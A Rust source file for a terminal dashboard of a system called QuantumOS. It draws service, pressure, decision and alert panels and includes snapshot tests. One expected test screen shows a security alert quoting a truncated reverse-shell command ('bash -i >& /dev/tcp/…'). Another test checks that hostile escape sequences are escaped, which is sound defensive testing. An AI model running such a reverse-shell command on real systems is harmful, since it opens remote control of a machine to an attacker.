//! Draws the live view: services on top, pressure, decisions and dimensions in the middle,
//! alerts below. Made for 80 columns by 24 lines; more room shows more.

use jiff::tz::TimeZone;
use ratatui::{
    Frame,
    layout::{Constraint, Layout, Rect},
    style::{Color, Modifier, Style},
    text::{Line, Span},
    widgets::{Block, Paragraph},
};

use super::{model::Model, panels};
use crate::text::{
    escape::{escape, shorten, width},
    style::{Severity, severity},
    time::clock,
};

/// How to draw.
#[derive(Clone, Debug)]
pub struct Look {
    /// Colour or only bold and dim.
    pub colour: bool,
    /// The reader's time zone.
    pub zone: TimeZone,
}

impl Look {
    /// The style of a state, fate, level or health word.
    pub fn severity(&self, word: &str) -> Style {
        match severity(word) {
            Severity::Good => self.colour(Color::Green),
            Severity::Warn => self.colour(Color::Yellow),
            Severity::Bad => self.colour(Color::Red).add_modifier(Modifier::BOLD),
            Severity::Neutral => Style::new(),
        }
    }

    /// A colour, if colours are wanted.
    pub fn colour(&self, colour: Color) -> Style {
        if self.colour {
            Style::new().fg(colour)
        } else {
            Style::new()
        }
    }

    /// Secondary text.
    pub fn dim(&self) -> Style {
        Style::new().add_modifier(Modifier::DIM)
    }
}

/// Draws everything.
pub fn draw(frame: &mut Frame<'_>, model: &Model, look: &Look) {
    let area = frame.area();
    let services = u16::try_from(model.services.len()).unwrap_or(4) + 2;
    // What is left after the fixed parts goes to the alerts and, a third of it, to the middle.
    let spare = area.height.saturating_sub(2 + services + 9 + 7);
    let [head, top, middle, bottom, foot] = Layout::vertical([
        Constraint::Length(1),
        Constraint::Length(services),
        Constraint::Length(9 + spare / 3),
        Constraint::Min(3),
        Constraint::Length(1),
    ])
    .areas(area);
    let [left, right] =
        Layout::horizontal([Constraint::Percentage(58), Constraint::Fill(1)]).areas(middle);
    let [pressure, decisions] =
        Layout::vertical([Constraint::Length(5), Constraint::Fill(1)]).areas(left);

    header(frame, head, model, look);
    let titled = |title: String| Block::bordered().title(title).border_style(look.dim());
    let panel = |frame: &mut Frame<'_>, area: Rect, title: String, lines: Vec<Line<'static>>| {
        frame.render_widget(Paragraph::new(lines).block(titled(title)), area);
    };
    let inside = |area: Rect| usize::from(area.width.saturating_sub(2));

    let lines = panels::services(model, look, inside(top));
    panel(frame, top, " Services ".to_owned(), lines);
    let lines = panels::pressure(model, look, inside(pressure));
    panel(frame, pressure, panels::pressure_title(model), lines);
    let lines = panels::decisions(model, look, inside(decisions));
    let title = format!(" Decisions ({}) ", model.decisions.len());
    panel(frame, decisions, title, lines);
    let lines = panels::dimensions(model, look, inside(right));
    panel(frame, right, " Dimensions ".to_owned(), lines);
    let lines = panels::alerts(model, look, inside(bottom));
    let title = format!(" Alerts ({}) ", model.alerts.len());
    panel(frame, bottom, title, lines);
    let keys = Line::styled(" q quit   ↑ ↓ scroll alerts", look.dim());
    frame.render_widget(keys, foot);
}

fn header(frame: &mut Frame<'_>, area: Rect, model: &Model, look: &Look) {
    let name = Span::styled(" QuantumOS ", Style::new().add_modifier(Modifier::BOLD));
    let time = clock(model.now, &look.zone);
    let room = usize::from(area.width).saturating_sub(name.width() + width(&time) + 2);
    let host = shorten(&escape(&model.host), room);
    let gap = " ".repeat(room.saturating_sub(width(&host)) + 1);
    let line = Line::from(vec![name, Span::raw(host), Span::raw(gap), Span::raw(time)]);
    frame.render_widget(line, area);
}

#[cfg(test)]
mod tests {
    use ratatui::{Terminal, backend::TestBackend};

    use super::*;
    use crate::live::model::{Update, tests::busy};

    fn picture(model: &Model, columns: u16, lines: u16) -> String {
        let look = Look {
            colour: false,
            zone: TimeZone::UTC,
        };
        let mut terminal = Terminal::new(TestBackend::new(columns, lines)).unwrap();
        terminal.draw(|frame| draw(frame, model, &look)).unwrap();
        let buffer = terminal.backend().buffer().clone();
        let mut text = String::new();
        for y in 0..lines {
            let mut line = String::new();
            let mut x = 0;
            while x < columns {
                let symbol = buffer[(x, y)].symbol();
                line.push_str(symbol);
                x += u16::try_from(width(symbol).max(1)).unwrap();
            }
            text.push_str(line.trim_end());
            text.push('\n');
        }
        text
    }

    #[test]
    fn everything_is_seen_at_80_by_24() {
        assert_eq!(
            picture(&busy(), 80, 24),
            "\
\x20QuantumOS guest                                                       12:00:05
┌ Services ────────────────────────────────────────────────────────────────────┐
│● quantumd     ready     0.1.0  protection tpm (SW swtpm 0.7.3)               │
│● steppps-mgr  ready     0.1.0  dimensions 1/2                                │
│● security-ai  degraded  0.1.0  no BTF at /sys/kernel/btf/vmlinux             │
│● resource-ai  ready     0.1.0  mode observe, pressure cpu 20.0% memory 0.0%  │
└──────────────────────────────────────────────────────────────────────────────┘
┌ Pressure (mode observe) ───────────────────┐┌ Dimensions ────────────────────┐
│ cpu     20.0%                         ▁▂▃▅█││ space      ok                  │
│ memory   0.0%                         ▁▁▁▁▁││ pixel      absent    no display│
│ io          -                         ▁▁▁▁▁││                                │
└────────────────────────────────────────────┘│                                │
┌ Decisions (1) ─────────────────────────────┐│                                │
│ 12:00:00 applied build CPUWeight unset → 20││                                │
│                                            ││                                │
└────────────────────────────────────────────┘└────────────────────────────────┘
┌ Alerts (1) ──────────────────────────────────────────────────────────────────┐
│ 12:00:00 high     Interactive shell from a service ×3  bash -i >& /dev/tcp/1…│
│                                                                              │
│                                                                              │
│                                                                              │
│                                                                              │
└──────────────────────────────────────────────────────────────────────────────┘
 q quit   ↑ ↓ scroll alerts
"
        );
    }

    #[test]
    fn no_size_breaks_it() {
        let model = busy();
        for columns in [1, 2, 5, 20, 39, 80, 200] {
            for lines in [1, 2, 3, 8, 15, 24, 60] {
                picture(&model, columns, lines);
            }
        }
    }

    #[test]
    fn more_room_shows_more_alerts() {
        let mut model = busy();
        for n in 100..140 {
            let mut alert = model.alerts[0].clone();
            alert.id = n.to_string();
            model.apply(Update::Alert(Box::new(alert)));
        }
        let count = |text: &str| text.matches("Interactive shell").count();
        assert_eq!(count(&picture(&model, 80, 24)), 5);
        assert!(count(&picture(&model, 80, 50)) > 15);
    }

    #[test]
    fn hostile_text_is_escaped() {
        let mut model = busy();
        model.alerts[0].title = "\x1b[31mred\u{202e}".into();
        model.host = "h\x07".into();
        let text = picture(&model, 120, 30);
        assert!(text.contains("\\x1b[31mred\\u{202e}") && text.contains("h\\x07"));
    }
}
